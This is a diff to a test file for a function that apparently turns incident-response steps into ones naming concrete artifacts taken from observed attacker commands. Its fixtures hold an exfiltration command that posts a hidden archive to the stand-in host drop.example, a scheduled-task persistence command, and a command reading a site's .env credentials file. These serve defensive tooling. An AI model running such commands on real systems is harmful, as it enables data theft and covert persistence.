@@ -45,6 +45,17 @@ describe('nameThings', () => {
     expect(named).toEqual({ step: step.replace('the server', '`web-02`'), targets: [] });
   });
 
+  it('names what a command sent away, and the task that it made', () => {
+    const sent = 'curl -s -X POST -F f=@/tmp/.e.tgz https://drop.example/c';
+    expect(nameThings('Find out what the file held, and block where it went', [], [sent]).step).toBe(
+      'Find out what `/tmp/.e.tgz` held, and block `drop[.]example`, where it went',
+    );
+    const made = 'schtasks.exe /create /tn "WSync" /tr C:\\Users\\Public\\w.exe /sc onlogon';
+    expect(nameThings('Delete the scheduled task, and keep a copy of what it runs', [], [made]).targets).toEqual([
+      'WSync',
+    ]);
+  });
+
   it('names the files that a command reads, and whose crontab it is', () => {
     const holds = 'Rotate the credentials that the configuration holds';
     expect(nameThings(holds, [], ['sh -c cat /var/www/shop/.env']).targets).toEqual(['/var/www/shop/.env']);
